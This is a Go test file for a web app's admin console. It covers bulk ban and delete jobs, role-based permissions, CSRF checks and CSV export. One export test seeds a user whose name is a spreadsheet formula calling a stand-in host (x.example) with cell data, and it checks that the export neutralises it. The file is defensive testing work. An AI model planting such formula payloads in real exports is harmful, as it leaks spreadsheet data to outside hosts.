package app_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/webmin/webmin/app/apptest"
	"github.com/webmin/webmin/models"
)

var jobPath = regexp.MustCompile(`^/admin/users/bulk/(\d+)$`)

func reload(t *testing.T, env *apptest.Env, u *models.User) *models.User {
	t.Helper()
	got, err := env.Users.Get(context.Background(), u.ID)
	if err != nil {
		t.Fatal(err)
	}
	return got
}

func runBulk(t *testing.T, env *apptest.Env) {
	t.Helper()
	if _, err := env.Users.RunPendingBulk(context.Background()); err != nil {
		t.Fatalf("run bulk jobs: %v", err)
	}
}

func TestConsoleBulkBan(t *testing.T) {
	apptest.EachDB(t, func(t *testing.T, env *apptest.Env) {
		cast := newConsole(env)
		c := env.SignedIn("alice")
		list := c.Get("/admin/users?role=user&sort=username")
		wantCode(t, list, http.StatusOK, "user list")
		for _, hook := range []string{`id="bulk-form"`, `id="export-form"`, `<option value="delete">`, `name="new_level"`,
			`<input type="hidden" name="role" value="user">`} {
			if !strings.Contains(list.Body, hook) {
				t.Fatalf("user list lacks %s", hook)
			}
		}

		q := url.Values{"role": {"user"}, "action": {"ban"}, "reason": {"spam <b>wave</b>"}}
		dry := c.Get("/admin/users/bulk?" + q.Encode())
		wantCode(t, dry, http.StatusOK, "dry run")
		if !strings.Contains(dry.Body, `data-eligible="2"`) || !strings.Contains(dry.Body, `data-matched="2"`) ||
			!strings.Contains(dry.Body, `id="bulk-start"`) || strings.Contains(dry.Body, "<b>wave") ||
			!strings.Contains(dry.Body, `<tr class="bulk-sample-row" data-id="`+fmt.Sprint(cast.bob.ID)+`">`) {
			t.Fatalf("dry run page:\n%s", dry.Body)
		}
		if reload(t, env, cast.bob).Type != models.TypeActive {
			t.Fatal("the dry run banned bob")
		}
		// Without its CSRF token, the form starts nothing.
		if res := c.PostRaw("/admin/users/bulk", q); res.StatusCode != http.StatusForbidden {
			t.Fatalf("no CSRF: %d", res.StatusCode)
		}
		res := c.Post("/admin/users/bulk", q)
		m := jobPath.FindStringSubmatch(res.Location())
		if res.StatusCode != http.StatusSeeOther || m == nil {
			t.Fatalf("start: %d %q", res.StatusCode, res.Location())
		}
		page := c.Get(res.Location())
		wantCode(t, page, http.StatusOK, "job page")
		// The page reloads itself only when asked to (?follow=1: WCAG
		// 2.2.1), and offers to stop.
		if strings.Contains(page.Body, `http-equiv="refresh"`) || !strings.Contains(page.Body, `data-status="queued"`) ||
			!strings.Contains(page.Body, `id="bulk-cancel"`) || !strings.Contains(page.Body, `id="bulk-follow" href="`+res.Location()+`?follow=1"`) {
			t.Fatalf("queued job page:\n%s", page.Body)
		}
		following := c.Get(res.Location() + "?follow=1")
		if !strings.Contains(following.Body, `<meta http-equiv="refresh" content="2">`) ||
			!strings.Contains(following.Body, `id="bulk-unfollow" href="`+res.Location()+`"`) || strings.Contains(following.Body, `id="bulk-follow"`) {
			t.Fatalf("followed job page:\n%s", following.Body)
		}
		runBulk(t, env)
		for _, path := range []string{res.Location(), res.Location() + "?follow=1"} {
			page = c.Get(path)
			if strings.Contains(page.Body, `http-equiv="refresh"`) || !strings.Contains(page.Body, `data-status="done"`) ||
				!strings.Contains(page.Body, `data-done="2"`) || strings.Contains(page.Body, `id="bulk-cancel"`) ||
				strings.Contains(page.Body, `id="bulk-follow"`) || strings.Contains(page.Body, `id="bulk-unfollow"`) {
				t.Fatalf("finished job page %s:\n%s", path, page.Body)
			}
		}
		for _, u := range []*models.User{cast.bob, cast.carol} {
			if got := reload(t, env, u); got.Type != models.TypeBanned || got.BanReason != "spam <b>wave</b>" {
				t.Fatalf("%s: %+v", u.Username, got)
			}
		}
		if jobs := c.Get("/admin/users/bulk"); !strings.Contains(jobs.Body, `class="bulk-job-row" data-id="`+m[1]+`" data-status="done"`) {
			t.Fatalf("jobs list:\n%s", jobs.Body)
		}

		// Cancel a job before it runs.
		res = c.Post("/admin/users/bulk", url.Values{"role": {"user"}, "action": {"delete"}})
		wantCode(t, res, http.StatusSeeOther, "start delete")
		res = c.Post(res.Location()+"/cancel", nil)
		wantCode(t, res, http.StatusSeeOther, "cancel")
		if page := c.Get(res.Location()); !strings.Contains(page.Body, `data-status="cancelled"`) {
			t.Fatalf("cancelled job page:\n%s", page.Body)
		}
		runBulk(t, env)
		if reload(t, env, cast.bob).Type != models.TypeBanned {
			t.Fatal("a cancelled job ran")
		}

		// Bad input: a clear message and 422, never a 500.
		for _, bad := range []string{"action=explode", "action=set_level", "action=set_level&new_level=x", "action=ban&type=weird",
			"action=ban&created_from=yesterday", "action=set_level&new_level=9"} {
			res := c.Get("/admin/users/bulk?" + bad)
			wantCode(t, res, http.StatusUnprocessableEntity, bad)
			if !strings.Contains(res.Body, `flash-error`) || strings.Contains(res.Body, `id="bulk-start"`) {
				t.Fatalf("%s: page:\n%s", bad, res.Body)
			}
		}
	})
}

func TestConsoleBulkPermissions(t *testing.T) {
	apptest.EachDB(t, func(t *testing.T, env *apptest.Env) {
		cast := newConsole(env)
		mo := env.SignedIn("moe")
		list := mo.Get("/admin/users")
		if !strings.Contains(list.Body, `<option value="ban">`) || strings.Contains(list.Body, `<option value="delete">`) ||
			strings.Contains(list.Body, `name="new_level"`) {
			t.Fatalf("moderator's bulk form offers what they can't do:\n%s", list.Body)
		}
		for _, a := range []string{"delete", "restore", "revoke_sessions", "set_level&new_level=1", "resend_confirmation"} {
			wantCode(t, mo.Get("/admin/users/bulk?action="+a), http.StatusForbidden, "moderator dry run "+a)
			res := mo.Post("/admin/users/bulk", url.Values{"action": {strings.Split(a, "&")[0]}, "new_level": {"1"}})
			wantCode(t, res, http.StatusForbidden, "moderator start "+a)
		}
		// A moderator's ban skips moderators and up, and names why.
		dry := mo.Get("/admin/users/bulk?action=ban")
		if !strings.Contains(dry.Body, `data-eligible="2"`) || !strings.Contains(dry.Body, `data-reason="level" data-count="3"`) ||
			!strings.Contains(dry.Body, `data-reason="self" data-count="1"`) {
			t.Fatalf("moderator's dry run:\n%s", dry.Body)
		}
		// Someone else's job: not found for a moderator.
		j, err := env.Users.StartBulk(context.Background(), models.Actor{User: cast.alice}, models.BulkRequest{Action: models.BulkRevokeSessions})
		if err != nil {
			t.Fatal(err)
		}
		wantCode(t, mo.Get(fmt.Sprintf("/admin/users/bulk/%d", j.ID)), http.StatusNotFound, "moderator on an admin's job")
		wantCode(t, mo.Post(fmt.Sprintf("/admin/users/bulk/%d/cancel", j.ID), nil), http.StatusNotFound, "moderator cancelling an admin's job")
		// Members don't reach the console.
		bob := env.SignedIn("bob")
		if res := bob.Get("/admin/users/bulk?action=ban"); res.StatusCode != http.StatusForbidden {
			t.Fatalf("member dry run: %d", res.StatusCode)
		}
	})
}

// readCSV parses an export, failing on anything but a 200 CSV download.
func readCSV(t *testing.T, res *apptest.Response) [][]string {
	t.Helper()
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") ||
		!strings.HasPrefix(res.Header.Get("Content-Disposition"), "attachment;") {
		t.Fatalf("export: %d %s\n%s", res.StatusCode, res.Header.Get("Content-Type"), res.Body)
	}
	rows, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, res.Body)
	}
	return rows
}

func TestConsoleExportCSV(t *testing.T) {
	apptest.EachDB(t, func(t *testing.T, env *apptest.Env) {
		cast := newConsole(env)
		ctx := context.Background()
		evil, err := env.Users.Create(ctx, models.System, models.NewUser{Username: "evil", Email: "evil@example.com",
			Name: `=HYPERLINK("http://x.example/?"&A1,"click")`, Password: apptest.Password, Level: 1, Group: "+1, \"quoted\"\nline"})
		if err != nil {
			t.Fatal(err)
		}
		c := env.SignedIn("alice")
		rows := readCSV(t, c.Get("/admin/users/export.csv?role=user&columns=id,username,email,name,group"))
		want := [][]string{{"id", "username", "email", "name", "group"},
			{fmt.Sprint(cast.bob.ID), "bob", "bob@example.com", "", ""},
			{fmt.Sprint(cast.carol.ID), "carol", "carol@example.com", "", ""},
			{fmt.Sprint(evil.ID), "evil", "evil@example.com", `'=HYPERLINK("http://x.example/?"&A1,"click")`, "'+1, \"quoted\"\nline"}}
		if fmt.Sprint(rows) != fmt.Sprint(want) {
			t.Fatalf("export:\n%q\nwant\n%q", rows, want)
		}
		// The form's checkboxes; the default columns.
		rows = readCSV(t, c.Get("/admin/users/export.csv?search=carol&columns=username&columns=level"))
		if fmt.Sprint(rows) != "[[username level] [carol 1]]" {
			t.Fatalf("checkbox columns: %q", rows)
		}
		rows = readCSV(t, c.Get("/admin/users/export.csv?search=carol"))
		if strings.Join(rows[0], ",") != "id,username,email,name,role,type_label,created_at,last_login_at" || len(rows) != 2 {
			t.Fatalf("default columns: %q", rows)
		}

		// Moderators: no e-mail column, and no searching by address.
		mo := env.SignedIn("moe")
		rows = readCSV(t, mo.Get("/admin/users/export.csv"))
		if slices := strings.Join(rows[0], ","); strings.Contains(slices, "email") || len(rows) != 8 {
			t.Fatalf("moderator's export: %q", rows)
		}
		wantCode(t, mo.Get("/admin/users/export.csv?columns=username,email"), http.StatusForbidden, "moderator asking for e-mail")
		wantCode(t, mo.Get("/admin/users/export.csv?columns=email_verified_at"), http.StatusForbidden, "moderator asking for e-mail")
		if rows := readCSV(t, mo.Get("/admin/users/export.csv?search=example.com")); len(rows) != 1 {
			t.Fatalf("moderator found accounts by address: %q", rows)
		}
		if !strings.Contains(mo.Get("/admin/users").Body, `id="export-form"`) {
			t.Fatal("moderator's list lacks the export form")
		}
		wantCode(t, c.Get("/admin/users/export.csv?columns=password_hash"), http.StatusUnprocessableEntity, "unknown column")
		wantCode(t, c.Get("/admin/users/export.csv?type=weird"), http.StatusUnprocessableEntity, "bad filter")
		if res := env.SignedIn("bob").Get("/admin/users/export.csv"); res.StatusCode != http.StatusForbidden {
			t.Fatalf("member export: %d", res.StatusCode)
		}
	})
}

// The export streams (no Content-Length; chunks) and reads past its
// first batch of accounts.
func TestConsoleExportStreams(t *testing.T) {
	apptest.EachDB(t, func(t *testing.T, env *apptest.Env) {
		newConsole(env)
		seedAccounts(t, env, 4500)
		res := env.SignedIn("alice").Get("/admin/users/export.csv?columns=id&role=public")
		rows := readCSV(t, res)
		if res.ContentLength != -1 || len(res.TransferEncoding) == 0 || res.TransferEncoding[0] != "chunked" {
			t.Fatalf("not streamed: length %d, encoding %v", res.ContentLength, res.TransferEncoding)
		}
		if len(rows) != 4501 {
			t.Fatalf("%d rows, want 4,500 and the header", len(rows)-1)
		}
		last := ""
		for _, r := range rows[1:] {
			if len(r[0]) < len(last) || (len(r[0]) == len(last) && r[0] <= last) {
				t.Fatalf("ids out of order or repeated: %s after %s", r[0], last)
			}
			last = r[0]
		}
	})
}

// seedAccounts adds n level-0 accounts in one statement (Create would
// hash n passwords).
func seedAccounts(t *testing.T, env *apptest.Env, n int) {
	t.Helper()
	us := make([]models.User, n)
	now := env.Clock.Now()
	for i := range us {
		us[i] = models.User{Username: fmt.Sprintf("seed%05d", i), Level: 0, Type: models.TypeActive, SessionVersion: 1,
			Var: map[string]any{}, CreatedAt: now, UpdatedAt: now}
	}
	if _, err := env.DB.NewInsert().Model(&us).Exec(context.Background()); err != nil {
		t.Fatal(err)
	}
}
